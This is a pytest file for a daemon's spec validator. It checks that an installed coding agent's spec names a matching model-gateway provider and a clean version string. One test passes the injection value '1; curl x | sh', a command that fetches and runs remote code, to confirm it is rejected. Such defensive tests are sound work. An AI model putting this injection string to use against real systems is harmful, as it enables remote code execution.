"""The installed-agent block of a spec: it needs the model gateway's provider its CLI speaks, and
its version is pinned to the characters of a package version."""
from __future__ import annotations

import pytest

from daemon.spec import SpecValidationError, load_spec

SPEC = """\
version: 1
id: installed
base: localhost/svc/python:3.11
task: {prompt: fix it}
agent: {type: installed, name: claude-code, version: "2.1.332", model: claude-sonnet-4-5, max_turns: 30, timeout: 10m}
invariants:
  done: {check: {type: command_exit, command: "true"}}
resources: {timeout: 15m}
"""
ANTHROPIC = "secrets: {KEY: env}\nmodels: {providers: {anthropic: {key: KEY}}}\n"


def error(text: str) -> str:
    with pytest.raises(SpecValidationError) as caught:
        load_spec(text, "installed.yaml")
    return str(caught.value)


def test_the_issue_shape_loads_with_a_models_block():
    agent = load_spec(SPEC + ANTHROPIC, "installed.yaml").agent
    assert (agent.type, agent.name, agent.version, agent.model, agent.max_turns, agent.timeout) == \
        ("installed", "claude-code", "2.1.332", "claude-sonnet-4-5", 30, 600.0)


def test_an_installed_agent_without_models_is_a_spec_error_naming_it():
    assert "installed.yaml:5 agent: the installed agent 'claude-code' reaches its model through the model gateway" in error(SPEC)


def test_an_installed_agent_needs_the_provider_it_speaks():
    codex = SPEC.replace("name: claude-code", "name: codex")
    assert "the installed agent 'codex' speaks the openai API: add models.providers.openai" in error(codex + ANTHROPIC)


def test_a_version_is_only_a_version():
    assert "agent.version" in error(SPEC.replace('"2.1.332"', '"1; curl x | sh"') + ANTHROPIC)
